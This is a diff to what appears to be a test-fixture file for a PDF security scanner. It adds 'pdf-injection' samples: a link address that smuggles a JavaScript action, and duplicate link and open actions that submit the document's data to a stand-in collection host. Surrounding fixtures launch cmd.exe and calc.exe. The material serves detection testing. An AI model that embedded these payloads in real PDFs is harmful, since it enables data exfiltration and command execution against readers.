@@ -45,6 +45,12 @@ function pictureWithLink(url: string): Uint8Array {
 const LONG_ENCODED = Array.from({ length: 1500 }, (_, i) => "Zm9vYmFy0123456789abcdefXYZ"[i % 27]).join("");
 
 export const CORE_FIXTURES: TechniqueFixtures = {
+  // a shop's order link whose address carried the injection: `) /S /JavaScript /JS (...` and the like
+  "pdf-injection": {
+    "uri-becomes-javascript": () => built({ annots: [linkAnnot("<< /S /URI /URI (https://shop.example/order?id=) /S /JavaScript /JS (app.alert\\(1\\)) >>")] }),
+    "second-link-action": () => built({ annots: [`<< /Type /Annot /Subtype /Link /Rect [72 690 240 704] /Border [0 0 0] /A << /S /URI /URI (https://shop.example/order) >> /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/x) >> /Flags 256 >> >>`] }),
+    "second-open-action": () => built({ catalog: "/OpenAction << /S /GoTo /D [0 /Fit] >> /OpenAction << /S /JavaScript /JS (this.submitForm\\({cURL: 'https://collect.example/x', cSubmitAs: 'PDF'}\\)) >>" }),
+  },
   "launch-command": {
     "open-action": () => built(openAction("<< /S /Launch /Win << /F (cmd.exe) /P (/c start calc.exe) >> >>")),
     "link-click": () => built({ annots: [linkAnnot("<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>")] }),
